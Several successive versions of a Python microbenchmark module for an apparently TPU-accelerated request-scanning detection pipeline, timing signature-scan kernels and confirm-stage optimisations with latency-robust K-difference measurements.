            return 2
    assert out is not None
    from ingress_plus_tpu.utils.platform import force_cpu_devices

    force_cpu_devices(1)
    ds = build_feature_dataset(n=n, seed=seed)
    path = ds.save(out)
    print("wrote %d labeled feature rows (%d rules, %d attacks) to %s"
          % (ds.n, ds.n_features, int(ds.y.sum()), path))
    return 0


if __name__ == "__main__":
    if "--features" in sys.argv[1:]:
        sys.exit(_features_main(sys.argv[1:]))
    out = sys.argv[1] if len(sys.argv) > 1 else "corpus.bin"
    n = int(sys.argv[2]) if len(sys.argv) > 2 else 10_000
    seed = int(sys.argv[3]) if len(sys.argv) > 3 else 20260729
    count = export(out, n=n, seed=seed)
    print("wrote %d request frames to %s" % (count, out))
