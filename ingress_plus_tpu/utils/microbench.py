"""Microbenchmarks for the scan kernels on the current jax backend.

Usage:  python -m ingress_plus_tpu.utils.microbench [--batch 256] [--len 1024]

Prints MB/s scanned per configuration — the raw number behind the req/s
target (1KB average request ⇒ 100k req/s ≈ 100+ MB/s scanned per chip
counting normalization variants).
"""

from __future__ import annotations

import argparse
import time

import jax
import numpy as np

from ingress_plus_tpu.compiler.ruleset import compile_ruleset
from ingress_plus_tpu.compiler.sigpack import load_bundled_rules
from ingress_plus_tpu.ops.scan import ScanTables, scan_bytes_jit


def bench_scan(tables: ScanTables, batch: int, length: int, gather: str,
               iters: int = 65, unroll: int = 16) -> float:
    """Returns MB/s, measured as the K-scan in-dispatch difference.

    The TPU here sits behind a network tunnel: per-dispatch wall time is
    dominated by ~70ms RTT with tens-of-ms variance, and repeated identical
    dispatches can be served from a relay cache — both make naive timing
    wildly wrong (we observed fake 38 GB/s).  So: run K chained scans
    inside ONE jit dispatch (tokens generated on-device, tiny scalar
    output) and report (t(K=iters) - t(K=1)) / (iters - 1).  iters must be
    large enough that the compute delta dwarfs RTT jitter."""
    import functools

    import jax.numpy as jnp

    from ingress_plus_tpu.ops.scan import scan_bytes

    @functools.partial(jax.jit, static_argnames=("k",))
    def scan_k(key, k):
        tokens = jax.random.randint(key, (batch, length), 32, 127,
                                    dtype=jnp.int32)
        lengths = jnp.full((batch,), length, dtype=jnp.int32)

        def body(i, carry):
            s, m = carry
            m, s = scan_bytes(tables, tokens, lengths, state=s, match=m,
                              unroll=unroll, gather=gather)
            return (s, m)

        s = jnp.zeros((batch, tables.n_words), jnp.uint32)
        s, m = jax.lax.fori_loop(0, k, body, (s, jnp.zeros_like(s)))
        return m[0, 0]

    def timed(k: int) -> float:
        jax.block_until_ready(scan_k(jax.random.PRNGKey(k), k))  # compile
        best = float("inf")
        for i in range(2):
            t0 = time.perf_counter()
            jax.block_until_ready(scan_k(jax.random.PRNGKey(100 + i), k))
            best = min(best, time.perf_counter() - t0)
        return best

    per_scan = (timed(iters) - timed(1)) / (iters - 1)
    return batch * length / per_scan / 1e6


def main() -> None:
    ap = argparse.ArgumentParser()
    ap.add_argument("--batch", type=int, default=256)
    ap.add_argument("--len", dest="length", type=int, default=1024)
    ap.add_argument("--iters", type=int, default=10)
    args = ap.parse_args()

    cr = compile_ruleset(load_bundled_rules())
    tables = ScanTables.from_bitap(cr.tables)
    print("backend=%s  W=%d words  rules=%d" % (
        jax.default_backend(), tables.n_words, cr.n_rules))
    for gather in ("take", "onehot"):
        for batch in (args.batch, args.batch * 4):
            try:
                mbs = bench_scan(tables, batch, args.length, gather,
                                 args.iters)
                print("gather=%-7s batch=%-5d len=%-5d  %8.1f MB/s"
                      % (gather, batch, args.length, mbs))
            except Exception as e:  # keep sweeping on OOM etc.
                print("gather=%-7s batch=%-5d FAILED: %s"
                      % (gather, batch, str(e)[:80]))


if __name__ == "__main__":
    main()
