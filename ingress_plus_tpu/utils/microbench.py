"""Microbenchmarks for the scan kernels on the current jax backend.

Usage:  python -m ingress_plus_tpu.utils.microbench [--batch 256] [--len 1024]

Prints MB/s scanned per configuration — the raw number behind the req/s
target (1KB average request ⇒ 100k req/s ≈ 100+ MB/s scanned per chip
counting normalization variants).
"""

from __future__ import annotations

import argparse
import time

import jax
import numpy as np

from ingress_plus_tpu.compiler.ruleset import compile_ruleset
from ingress_plus_tpu.compiler.sigpack import load_bundled_rules
from ingress_plus_tpu.ops.scan import ScanTables, scan_bytes_jit


def bench_scan(tables: ScanTables, batch: int, length: int, gather: str,
               iters: int = 65, unroll: int = 16) -> float:
    """Returns MB/s, measured as the K-scan in-dispatch difference.

    The TPU here sits behind a network tunnel: per-dispatch wall time is
    dominated by ~70ms RTT with tens-of-ms variance, and repeated identical
    dispatches can be served from a relay cache — both make naive timing
    wildly wrong (we observed fake 38 GB/s).  So: run K chained scans
    inside ONE jit dispatch (tokens generated on-device, tiny scalar
    output) and report (t(K=iters) - t(K=1)) / (iters - 1).  iters must be
    large enough that the compute delta dwarfs RTT jitter."""
    import functools

    import jax.numpy as jnp

    from ingress_plus_tpu.ops.scan import scan_bytes

    @functools.partial(jax.jit, static_argnames=("k",))
    def scan_k(key, k):
        tokens = jax.random.randint(key, (batch, length), 32, 127,
                                    dtype=jnp.int32)
        lengths = jnp.full((batch,), length, dtype=jnp.int32)

        def body(i, carry):
            s, m = carry
            m, s = scan_bytes(tables, tokens, lengths, state=s, match=m,
                              unroll=unroll, gather=gather)
            return (s, m)

        s = jnp.zeros((batch, tables.n_words), jnp.uint32)
        s, m = jax.lax.fori_loop(0, k, body, (s, jnp.zeros_like(s)))
        return m[0, 0]

    def timed(k: int) -> float:
        jax.block_until_ready(scan_k(jax.random.PRNGKey(k), k))  # compile
        best = float("inf")
        for i in range(2):
            t0 = time.perf_counter()
            jax.block_until_ready(scan_k(jax.random.PRNGKey(100 + i), k))
            best = min(best, time.perf_counter() - t0)
        return best

    per_scan = (timed(iters) - timed(1)) / (iters - 1)
    return batch * length / per_scan / 1e6


def bench_pairs(tables: ScanTables, batch: int, length: int,
                iters: int = 65, unroll: int = 16) -> float:
    """MB/s for the class-pair-stride scan (ops/scan.py scan_pairs),
    K-diff timed like bench_scan."""
    import functools

    import jax.numpy as jnp

    from ingress_plus_tpu.ops.scan import scan_pairs

    @functools.partial(jax.jit, static_argnames=("k",))
    def scan_k(key, k):
        tokens = jax.random.randint(key, (batch, length), 32, 127,
                                    dtype=jnp.int32)
        lengths = jnp.full((batch,), length, dtype=jnp.int32)

        def body(i, carry):
            s, m = carry
            m, s = scan_pairs(tables, tokens, lengths, state=s, match=m,
                              unroll=unroll)
            return (s, m)

        s = jnp.zeros((batch, tables.n_words), jnp.uint32)
        m = jnp.zeros((batch, tables.n_words), jnp.uint32)
        s, m = jax.lax.fori_loop(0, k, body, (s, m))
        return m.sum()

    def timed(k: int) -> float:
        key = jax.random.PRNGKey(k)
        scan_k(key, k).block_until_ready()  # compile
        t0 = time.time()
        scan_k(key, k).block_until_ready()
        return time.time() - t0

    t1, tk = timed(1), timed(iters)
    per = (tk - t1) / (iters - 1)
    return batch * length / per / 1e6


def bench_pallas(tables: ScanTables, batch: int, length: int,
                 iters: int = 65, TB: int = 8, CL: int = 128,
                 MR: int = 256) -> float:
    """MB/s for the Pallas kernel (ops/pallas_scan.py), K-diff timed the
    same way as bench_scan.  Table prep (padding, planes) happens once
    outside the timed region, as in serving."""
    import functools

    import jax.numpy as jnp

    from ingress_plus_tpu.ops.pallas_scan import PallasScanner, _pallas_scan

    # reuse the serving scanner's packing so the benchmark always measures
    # the shipped bit layout (prep is outside the timed region either way)
    sc = PallasScanner(tables, TB=TB, CL=CL, MR=MR)
    planes, init, final = sc.planes, sc.init, sc.final
    Wp, mr = sc.Wp, sc.MR

    @functools.partial(jax.jit, static_argnames=("k",))
    def scan_k(key, k):
        tokens = jax.random.randint(key, (batch, length), 32, 127,
                                    dtype=jnp.int32)
        lengths = jnp.full((batch, 1), length, dtype=jnp.int32)

        def body(i, carry):
            s, m = carry
            m, s = _pallas_scan(tokens, lengths, planes, init, final, s, m,
                                TB=TB, CL=CL, MR=mr, interpret=False)
            return (s, m)

        s = jnp.zeros((batch, Wp), jnp.int32)
        s, m = jax.lax.fori_loop(0, k, body, (s, jnp.zeros_like(s)))
        return m[0, 0]

    def timed(k: int) -> float:
        jax.block_until_ready(scan_k(jax.random.PRNGKey(k), k))
        best = float("inf")
        for i in range(2):
            t0 = time.perf_counter()
            jax.block_until_ready(scan_k(jax.random.PRNGKey(100 + i), k))
            best = min(best, time.perf_counter() - t0)
        return best

    per_scan = (timed(iters) - timed(1)) / (iters - 1)
    return batch * length / per_scan / 1e6


def main() -> None:
    ap = argparse.ArgumentParser()
    ap.add_argument("--batch", type=int, default=256)
    ap.add_argument("--len", dest="length", type=int, default=1024)
    ap.add_argument("--iters", type=int, default=10)
    ap.add_argument("--only", default=None,
                    choices=[None, "take", "onehot", "pallas", "pair"])
    ap.add_argument("--tb", type=int, default=8)
    ap.add_argument("--cl", type=int, default=128)
    args = ap.parse_args()

    cr = compile_ruleset(load_bundled_rules())
    tables = ScanTables.from_bitap(cr.tables)
    print("backend=%s  W=%d words  rules=%d" % (
        jax.default_backend(), tables.n_words, cr.n_rules))
    for gather in ("take", "onehot", "pallas", "pair"):
        if args.only and gather != args.only:
            continue
        for batch in (args.batch, args.batch * 4):
            try:
                if gather == "pallas":
                    mbs = bench_pallas(tables, batch, args.length,
                                       args.iters, TB=args.tb, CL=args.cl)
                elif gather == "pair":
                    mbs = bench_pairs(tables, batch, args.length,
                                      args.iters)
                else:
                    mbs = bench_scan(tables, batch, args.length, gather,
                                     args.iters)
                print("gather=%-7s batch=%-5d len=%-5d  %8.1f MB/s"
                      % (gather, batch, args.length, mbs))
            except Exception as e:  # keep sweeping on OOM etc.
                print("gather=%-7s batch=%-5d FAILED: %s"
                      % (gather, batch, str(e)[:120]))


if __name__ == "__main__":
    main()
