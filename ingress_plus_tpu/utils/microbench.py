"""Microbenchmarks for the scan kernels on the current jax backend.

Usage:  python -m ingress_plus_tpu.utils.microbench [--batch 256] [--len 1024]

Prints MB/s scanned per configuration — the raw number behind the req/s
target (1KB average request ⇒ 100k req/s ≈ 100+ MB/s scanned per chip
counting normalization variants).
"""

from __future__ import annotations

import argparse
import time

import jax
import numpy as np

from ingress_plus_tpu.compiler.ruleset import compile_ruleset
from ingress_plus_tpu.compiler.sigpack import load_bundled_rules
from ingress_plus_tpu.ops.scan import ScanTables, scan_bytes_jit


def best_time(call, k: int, n: int = 2) -> float:
    """Best-of-n wall time of ``call(k, rep)`` after warming its compile.

    The canonical tunnel-aware timing primitive (bench.py and every
    bench_* below share THIS copy).  ``rep`` increments per invocation so
    callers can bust the relay's repeated-dispatch cache with fresh PRNG
    keys; best-of because one jittery ~70ms RTT otherwise skews (or even
    negates) a K-difference built from single samples."""
    jax.block_until_ready(call(k, 0))  # warm the compile
    best = float("inf")
    for i in range(n):
        t0 = time.perf_counter()
        jax.block_until_ready(call(k, 1 + i))
        best = min(best, time.perf_counter() - t0)
    return best


def k_diff_time(call, k: int, n: int = 2) -> float:
    """Per-iteration K-difference (t(K=k) - t(K=1)) / (k-1), built on
    best_time.  May legitimately return <= 0 when RTT jitter swamps the
    compute delta — callers must treat that as NO SIGNAL (widen K or skip
    the report), never as a throughput."""
    return (best_time(call, k, n) - best_time(call, 1, n)) / (k - 1)


def bench_scan(tables: ScanTables, batch: int, length: int, gather: str,
               iters: int = 65, unroll: int = 16) -> float:
    """Returns MB/s, measured as the K-scan in-dispatch difference.

    The TPU here sits behind a network tunnel: per-dispatch wall time is
    dominated by ~70ms RTT with tens-of-ms variance, and repeated identical
    dispatches can be served from a relay cache — both make naive timing
    wildly wrong (we observed fake 38 GB/s).  So: run K chained scans
    inside ONE jit dispatch (tokens generated on-device, tiny scalar
    output) and report (t(K=iters) - t(K=1)) / (iters - 1).  iters must be
    large enough that the compute delta dwarfs RTT jitter."""
    import functools

    import jax.numpy as jnp

    from ingress_plus_tpu.ops.scan import scan_bytes

    @functools.partial(jax.jit, static_argnames=("k",))
    def scan_k(key, k):
        tokens = jax.random.randint(key, (batch, length), 32, 127,
                                    dtype=jnp.int32)
        lengths = jnp.full((batch,), length, dtype=jnp.int32)

        def body(i, carry):
            s, m = carry
            m, s = scan_bytes(tables, tokens, lengths, state=s, match=m,
                              unroll=unroll, gather=gather)
            return (s, m)

        s = jnp.zeros((batch, tables.n_words), jnp.uint32)
        s, m = jax.lax.fori_loop(0, k, body, (s, jnp.zeros_like(s)))
        return m[0, 0]

    per_scan = k_diff_time(
        lambda k, rep: scan_k(jax.random.PRNGKey(100 * k + rep), k), iters)
    return batch * length / per_scan / 1e6


def bench_pairs(tables: ScanTables, batch: int, length: int,
                iters: int = 65, unroll: int = 16) -> float:
    """MB/s for the class-pair-stride scan (ops/scan.py scan_pairs),
    K-diff timed like bench_scan."""
    import functools

    import jax.numpy as jnp

    from ingress_plus_tpu.ops.scan import scan_pairs

    @functools.partial(jax.jit, static_argnames=("k",))
    def scan_k(key, k):
        tokens = jax.random.randint(key, (batch, length), 32, 127,
                                    dtype=jnp.int32)
        lengths = jnp.full((batch,), length, dtype=jnp.int32)

        def body(i, carry):
            s, m = carry
            m, s = scan_pairs(tables, tokens, lengths, state=s, match=m,
                              unroll=unroll)
            return (s, m)

        s = jnp.zeros((batch, tables.n_words), jnp.uint32)
        m = jnp.zeros((batch, tables.n_words), jnp.uint32)
        s, m = jax.lax.fori_loop(0, k, body, (s, m))
        return m.sum()

    per = k_diff_time(
        lambda k, rep: scan_k(jax.random.PRNGKey(100 * k + rep), k), iters)
    return batch * length / per / 1e6


def bench_pallas(tables: ScanTables, batch: int, length: int,
                 iters: int = 65, TB: int = 8, CL: int = 128,
                 MR: int = 256) -> float:
    """MB/s for the Pallas kernel (ops/pallas_scan.py), K-diff timed the
    same way as bench_scan.  Table prep (padding, planes) happens once
    outside the timed region, as in serving."""
    import functools

    import jax.numpy as jnp

    from ingress_plus_tpu.ops.pallas_scan import PallasScanner, _pallas_scan

    # reuse the serving scanner's packing so the benchmark always measures
    # the shipped bit layout (prep is outside the timed region either way)
    sc = PallasScanner(tables, TB=TB, CL=CL, MR=MR)
    planes, init, final = sc.planes, sc.init, sc.final
    Wp, mr = sc.Wp, sc.MR

    @functools.partial(jax.jit, static_argnames=("k",))
    def scan_k(key, k):
        tokens = jax.random.randint(key, (batch, length), 32, 127,
                                    dtype=jnp.int32)
        lengths = jnp.full((batch, 1), length, dtype=jnp.int32)

        def body(i, carry):
            s, m = carry
            m, s = _pallas_scan(tokens, lengths, planes, init, final, s, m,
                                TB=TB, CL=CL, MR=mr, interpret=False)
            return (s, m)

        s = jnp.zeros((batch, Wp), jnp.int32)
        s, m = jax.lax.fori_loop(0, k, body, (s, jnp.zeros_like(s)))
        return m[0, 0]

    per_scan = k_diff_time(
        lambda k, rep: scan_k(jax.random.PRNGKey(100 * k + rep), k), iters)
    return batch * length / per_scan / 1e6


def bench_scan_modes(tables: ScanTables = None,
                     shapes=((512, 64), (256, 128), (128, 256)),
                     iters: int = 17,
                     interpret_shape=(8, 64)) -> dict:
    """Scan-path A/B for the raw-byte device path (ISSUE 13,
    ``--scan``): per (B, L) — the bundled pack's dominant serving
    bucket tiers — measure

    * ``xla_scan``: ops/scan.py ``scan_bytes``, the per-byte
      ``lax.scan`` lowering (the baseline the acceptance gate names);
    * ``fused``: the pallas3 raw-byte fused program — the compiled
      Mosaic kernel on TPU backends, its XLA reference lowering on CPU
      (bit-identical math, the class-pair fold; docs/SCAN_KERNEL.md
      "Device path").  uint8 tokens generated in-program, tables as
      jit ARGUMENTS (nothing constant-folds — the BENCH_r02 lesson).

    Plus ONE Mosaic-interpreter parity run at a small shape: the
    kernel code path the TPU lowering compiles, checked bit-identical
    against the XLA reference (the devicegate CI gate runs the full
    version of this).  K-diff timing throughout (module docstring).
    """
    import functools

    import jax.numpy as jnp

    from ingress_plus_tpu.ops.pallas_scan import PallasByteScanner
    from ingress_plus_tpu.ops.scan import scan_bytes, scan_pairs

    if tables is None:
        cr = compile_ruleset(load_bundled_rules())
        tables = ScanTables.from_bitap(cr.tables)
    sc = PallasByteScanner(tables)
    use_kernel = sc._use_kernel()
    W = tables.n_words
    out: dict = {
        "metric": "scan-path MB/s per dominant (B, L) bucket tier, "
                  "K-diff timed",
        "backend": jax.default_backend(),
        "platform": jax.default_backend(),
        "fused_lowering": ("mosaic-kernel" if use_kernel
                           else "xla-reference"),
        "n_words": int(W),
        "shapes": [],
    }

    @functools.partial(jax.jit, static_argnames=("k", "B", "L"))
    def xla_scan_k(key, k, tabs, lengths, B, L):
        tokens = jax.random.randint(key, (B, L), 32, 127, dtype=jnp.int32)

        def body(i, carry):
            s, m = carry
            m, s = scan_bytes(tabs, tokens, lengths, state=s, match=m)
            return (s, m)

        z = jnp.zeros((B, W), jnp.uint32)
        s, m = jax.lax.fori_loop(0, k, body, (z, z))
        return m.sum()

    @functools.partial(jax.jit, static_argnames=("k", "B", "L"))
    def fused_ref_k(key, k, tabs, lengths, B, L):
        tokens = jax.random.randint(
            key, (B, L), 32, 127, dtype=jnp.int32).astype(jnp.uint8)

        def body(i, m):
            m2, _ = scan_pairs(tabs, tokens, lengths, None, m)
            return m2

        m = jax.lax.fori_loop(0, k, body, jnp.zeros((B, W), jnp.uint32))
        return m.sum()

    def fused_kernel_k(B, L):
        from ingress_plus_tpu.ops.pallas_scan import _fused_byte_scan

        @functools.partial(jax.jit, static_argnames=("k",))
        def kk(key, k, planes, init, final, lengths):
            tokens = jax.random.randint(
                key, (B, L), 32, 127, dtype=jnp.int32).astype(jnp.uint8)

            def body(i, m):
                m2, _ = _fused_byte_scan(
                    tokens, lengths, planes, init, final,
                    jnp.zeros((B, W), jnp.uint32), m,
                    TB=sc.TB, CL=sc.CL, MR=sc.MR, interpret=False)
                return m2

            m = jax.lax.fori_loop(0, k, body,
                                  jnp.zeros((B, W), jnp.uint32))
            return m.sum()

        return kk

    fused_wins = True
    for B, L in shapes:
        # ragged like serving: 3/4 of the rows fill the tier, the rest
        # sit at half — both lowerings walk the padded length, so the
        # comparison stays apples-to-apples
        lens_np = np.full((B,), L, np.int32)
        lens_np[::4] = max(1, L // 2)
        lengths = jnp.asarray(lens_np)
        row = {"B": B, "L": L}
        dt = k_diff_time(
            lambda k, rep: xla_scan_k(
                jax.random.PRNGKey(100 * k + rep), k, tables, lengths,
                B, L), iters)
        row["xla_scan_mb_s"] = (round(B * L / dt / 1e6, 1)
                                if dt > 0 else None)
        if use_kernel:
            kk = fused_kernel_k(B, L)
            dtf = k_diff_time(
                lambda k, rep: kk(jax.random.PRNGKey(100 * k + rep), k,
                                  sc.planes, sc.init, sc.final,
                                  lengths), iters)
        else:
            dtf = k_diff_time(
                lambda k, rep: fused_ref_k(
                    jax.random.PRNGKey(100 * k + rep), k, tables,
                    lengths, B, L), iters)
        row["fused_mb_s"] = (round(B * L / dtf / 1e6, 1)
                             if dtf > 0 else None)
        if row["xla_scan_mb_s"] and row["fused_mb_s"]:
            row["fused_vs_xla_scan"] = round(
                row["fused_mb_s"] / row["xla_scan_mb_s"], 3)
            if row["fused_vs_xla_scan"] < 1.0:
                fused_wins = False
        else:
            row["fused_vs_xla_scan"] = None
            fused_wins = False
        out["shapes"].append(row)
        print("shape B=%-4d L=%-5d  xla_scan=%s MB/s  fused=%s MB/s "
              "(%sx)" % (B, L, row["xla_scan_mb_s"], row["fused_mb_s"],
                         row.get("fused_vs_xla_scan")))
    out["fused_wins_all_shapes"] = fused_wins

    # Mosaic-interpreter parity at a small shape: the kernel CODE PATH,
    # bit-identical match words vs the XLA reference (full coverage =
    # the devicegate CI gate)
    B, L = interpret_shape
    rng = np.random.default_rng(3)
    toks = rng.integers(32, 127, (B, L)).astype(np.uint8)
    lens = np.full((B,), L, np.int32)
    lens[::3] = L // 3
    t0 = time.perf_counter()
    km, _ = sc(toks, lens, interpret=True)
    wall_ms = (time.perf_counter() - t0) * 1e3
    rm, _ = sc(toks, lens, mode="reference")
    ok = bool(np.array_equal(np.asarray(km), np.asarray(rm)))
    out["interpret_parity"] = {"ok": ok, "B": B, "L": L,
                               "wall_ms": round(wall_ms, 1)}
    print("interpret parity (%dx%d): %s (%.0f ms, Mosaic interpreter)"
          % (B, L, "OK" if ok else "DIVERGED", wall_ms))
    return out


def bench_confirm(n_req: int = 1024, iters: int = 5,
                  flood_dup: int = 4) -> dict:
    """Confirm-stage microbench (docs/CONFIRM_PLANE.md): full CPU
    ``pipeline.detect`` over the deterministic corpus with the
    quick-reject literals and the flood memo toggled independently, so
    the work-reduction win is reproducible in isolation from the serve
    plane.  Two corpora: the standard mixed corpus (quick-reject's
    home turf — unique requests, candidate-but-no-hit walks) and a
    flood corpus (each request repeated ``flood_dup`` times, shuffled —
    the replayed-flood shape the per-cycle memo exists for).  One
    pipeline serves every config — toggling attributes instead of
    rebuilding keeps the XLA executables warm, so config deltas are
    confirm-stage deltas."""
    import random

    from ingress_plus_tpu.models.pipeline import DetectionPipeline
    from ingress_plus_tpu.utils.corpus import generate_corpus

    cr = compile_ruleset(load_bundled_rules())
    corpus = generate_corpus(n=n_req, attack_fraction=0.2, seed=42)
    reqs = [lr.request for lr in corpus]
    flood = [lr.request for lr in corpus[:max(1, n_req // flood_dup)]
             ] * flood_dup
    random.Random(7).shuffle(flood)

    pipe = DetectionPipeline(cr, mode="block")
    # chain links quick-reject too — the toggle must strip them as
    # well or the "off" baseline under-reports the qr win
    rules = [r for c in pipe.confirms for r in c.walk_chain()]
    saved = [(c.qr_literals, c._qr_rule_ok) for c in rules]

    def set_qr(on: bool) -> None:
        for c, (lits, ok) in zip(rules, saved):
            c.qr_literals = lits if on else None
            c._qr_rule_ok = ok if on else False

    # warm every compile tier + the cross-request transform memo once;
    # later configs all start from the same warm state
    pipe.detect(reqs[:256])
    pipe.detect(reqs)
    pipe.detect(flood)

    out: dict = {"n_req": n_req, "iters": iters, "flood_dup": flood_dup}
    for corpus_tag, batch in (("mixed", reqs), ("flood", flood)):
        base_rps = None
        for tag, qr, memo in (("off", False, False),
                              ("qr", True, False),
                              ("memo", False, True),
                              ("qr+memo", True, True)):
            set_qr(qr)
            pipe.confirm_memo_entries = 4096 if memo else 0
            best, conf_us, memo_hits = float("inf"), 0, 0
            for _ in range(iters):
                c0 = pipe.stats.confirm_us
                m0 = pipe.stats.confirm_memo_hits
                t0 = time.perf_counter()
                pipe.detect(batch)
                dt = time.perf_counter() - t0
                if dt < best:
                    best = dt
                    conf_us = pipe.stats.confirm_us - c0
                    memo_hits = pipe.stats.confirm_memo_hits - m0
            rps = len(batch) / best
            if tag == "off":
                base_rps = rps
            rec = {"req_per_s": round(rps, 1),
                   "confirm_ms": round(conf_us / 1e3, 1),
                   "memo_hits": memo_hits,
                   "speedup_vs_off": round(rps / base_rps, 3)}
            out["%s/%s" % (corpus_tag, tag)] = rec
            print("corpus=%-5s config=%-8s %8.1f req/s  confirm=%7.1f ms"
                  "  memo_hits=%-6d speedup=%.3fx"
                  % (corpus_tag, tag, rps, rec["confirm_ms"], memo_hits,
                     rec["speedup_vs_off"]))
    set_qr(True)
    qr_summary = pipe.rule_stats.quick_reject_summary()
    out["quick_reject"] = qr_summary
    print("quick-reject coverage: %s/%s rx rules, skip_rate=%s"
          % (qr_summary["rules_with_literals"], qr_summary["rx_rules"],
             qr_summary["skip_rate"]))
    return out


def bench_retune(n_req: int = 1024, iters: int = 5, flood_dup: int = 4,
                 cache_entries: int = 65536) -> dict:
    """Profile-guided retuning A/B (ISSUE 15, docs/RETUNE.md): static
    vs profile-priced pack, crossed with the cross-cycle verdict cache
    off/on, over the same mixed + flood corpora as ``bench_confirm``.
    The profile is bootstrapped from a telemetry replay of the mixed
    corpus through the static pack — the exact loop tools/retune.py
    closes — so the delta is the measured value of closing it.  Each
    arm gets its own pipeline (the pack IS the variable; attribute
    toggling can't swap tables), warmed before timing."""
    import random

    from ingress_plus_tpu.compiler.profile import MeasuredProfile
    from ingress_plus_tpu.compiler.reduce import ReductionConfig
    from ingress_plus_tpu.models.pipeline import DetectionPipeline
    from ingress_plus_tpu.utils.corpus import generate_corpus

    rules = load_bundled_rules()
    static_cr = compile_ruleset(rules)
    corpus = generate_corpus(n=n_req, attack_fraction=0.2, seed=42)
    reqs = [lr.request for lr in corpus]
    flood = [lr.request for lr in corpus[:max(1, n_req // flood_dup)]
             ] * flood_dup
    random.Random(7).shuffle(flood)

    # telemetry replay → profile → retuned pack (the closed loop)
    prof_pipe = DetectionPipeline(static_cr, mode="block")
    for i in range(0, len(reqs), 64):
        prof_pipe.detect(reqs[i:i + 64])
    prof = MeasuredProfile.from_rule_stats(prof_pipe.rule_stats)
    retuned_cr = compile_ruleset(
        rules, reduction=ReductionConfig(profile=prof))

    out: dict = {"n_req": n_req, "iters": iters, "flood_dup": flood_dup,
                 "profile_hash": prof.content_hash(),
                 "static_fingerprint": static_cr.version,
                 "retuned_fingerprint": retuned_cr.version,
                 "reduction": retuned_cr.reduction}
    base: dict = {}
    for pack_tag, cr in (("static", static_cr), ("retuned", retuned_cr)):
        for cache_tag, cache in (("nocache", 0),
                                 ("cache", cache_entries)):
            pipe = DetectionPipeline(cr, mode="block",
                                     confirm_cache_entries=cache)
            pipe.detect(reqs[:256])
            pipe.detect(reqs)
            pipe.detect(flood)
            if pipe.confirm_cache is not None:
                # warmup hits would flatter the timed runs unevenly
                pipe.confirm_cache.invalidate("bench_warm")
            for corpus_tag, batch in (("mixed", reqs), ("flood", flood)):
                best, conf_us, hits = float("inf"), 0, 0
                for _ in range(iters):
                    c0 = pipe.stats.confirm_us
                    m0 = pipe.stats.confirm_memo_hits
                    t0 = time.perf_counter()
                    pipe.detect(batch)
                    dt = time.perf_counter() - t0
                    if dt < best:
                        best = dt
                        conf_us = pipe.stats.confirm_us - c0
                        hits = pipe.stats.confirm_memo_hits - m0
                key = "%s/%s/%s" % (corpus_tag, pack_tag, cache_tag)
                rps = len(batch) / best
                if pack_tag == "static" and cache_tag == "nocache":
                    base[corpus_tag] = rps
                rec = {"req_per_s": round(rps, 1),
                       "confirm_ms": round(conf_us / 1e3, 1),
                       "cache_hits": hits,
                       "speedup_vs_static": round(rps / base[corpus_tag],
                                                  3)}
                out[key] = rec
                print("corpus=%-5s pack=%-7s cache=%-7s %8.1f req/s  "
                      "confirm=%7.1f ms  hits=%-6d speedup=%.3fx"
                      % (corpus_tag, pack_tag, cache_tag, rps,
                         rec["confirm_ms"], hits,
                         rec["speedup_vs_static"]))
    return out


def main() -> None:
    ap = argparse.ArgumentParser()
    ap.add_argument("--batch", type=int, default=256)
    ap.add_argument("--len", dest="length", type=int, default=1024)
    ap.add_argument("--iters", type=int, default=10)
    ap.add_argument("--only", default=None,
                    choices=[None, "take", "onehot", "pallas", "pair"])
    ap.add_argument("--tb", type=int, default=8)
    ap.add_argument("--cl", type=int, default=128)
    ap.add_argument("--platform", default=None, choices=[None, "cpu"],
                    help="force CPU in-process (JAX_PLATFORMS env alone "
                         "does not work on this machine — see "
                         "utils/platform.py)")
    ap.add_argument("--confirm", action="store_true",
                    help="confirm-stage microbench instead of the scan "
                         "sweep: quick-reject / flood-memo toggles over "
                         "full pipeline.detect (docs/CONFIRM_PLANE.md); "
                         "always CPU")
    ap.add_argument("--scan", action="store_true",
                    help="raw-byte device-path A/B (ISSUE 13, "
                         "docs/SCAN_KERNEL.md 'Device path'): the "
                         "pallas3 fused program vs the XLA lax.scan "
                         "lowering at the dominant bucket tiers, plus "
                         "a Mosaic-interpreter parity run; compiled "
                         "kernel on TPU, reference lowering on CPU")
    ap.add_argument("--retune", action="store_true",
                    help="profile-guided retuning A/B (docs/RETUNE.md): "
                         "static vs profile-priced pack x verdict cache "
                         "off/on over mixed + flood corpora; always CPU")
    ap.add_argument("--reqs", type=int, default=1024,
                    help="corpus size for --confirm / --retune")
    args = ap.parse_args()

    if args.platform == "cpu" or args.confirm or args.retune:
        from ingress_plus_tpu.utils.platform import force_cpu_devices

        force_cpu_devices(1)

    if args.confirm:
        # --iters defaults are tuned for the K-chained scan; a confirm
        # pass is a full corpus detect, so clamp to a sane wall budget
        bench_confirm(n_req=args.reqs, iters=max(2, min(args.iters, 5)))
        return

    if args.retune:
        import json

        out = bench_retune(n_req=args.reqs,
                           iters=max(2, min(args.iters, 5)))
        print(json.dumps(out, indent=2))
        return

    if args.scan:
        import json

        out = bench_scan_modes(iters=max(3, args.iters))
        print(json.dumps(out, indent=2))
        return

    cr = compile_ruleset(load_bundled_rules())
    tables = ScanTables.from_bitap(cr.tables)
    print("backend=%s  W=%d words  rules=%d" % (
        jax.default_backend(), tables.n_words, cr.n_rules))
    for gather in ("take", "onehot", "pallas", "pair"):
        if args.only and gather != args.only:
            continue
        for batch in (args.batch, args.batch * 4):
            try:
                if gather == "pallas":
                    mbs = bench_pallas(tables, batch, args.length,
                                       args.iters, TB=args.tb, CL=args.cl)
                elif gather == "pair":
                    mbs = bench_pairs(tables, batch, args.length,
                                      args.iters)
                else:
                    mbs = bench_scan(tables, batch, args.length, gather,
                                     args.iters)
                print("gather=%-7s batch=%-5d len=%-5d  %8.1f MB/s"
                      % (gather, batch, args.length, mbs))
            except Exception as e:  # keep sweeping on OOM etc.
                print("gather=%-7s batch=%-5d FAILED: %s"
                      % (gather, batch, str(e)[:120]))


if __name__ == "__main__":
    main()
