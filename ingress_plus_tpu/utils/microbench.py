"""Microbenchmarks for the scan kernels on the current jax backend.

Usage:  python -m ingress_plus_tpu.utils.microbench [--batch 256] [--len 1024]

Prints MB/s scanned per configuration — the raw number behind the req/s
target (1KB average request ⇒ 100k req/s ≈ 100+ MB/s scanned per chip
counting normalization variants).
"""

from __future__ import annotations

import argparse
import time

import jax
import numpy as np

from ingress_plus_tpu.compiler.ruleset import compile_ruleset
from ingress_plus_tpu.compiler.sigpack import load_bundled_rules
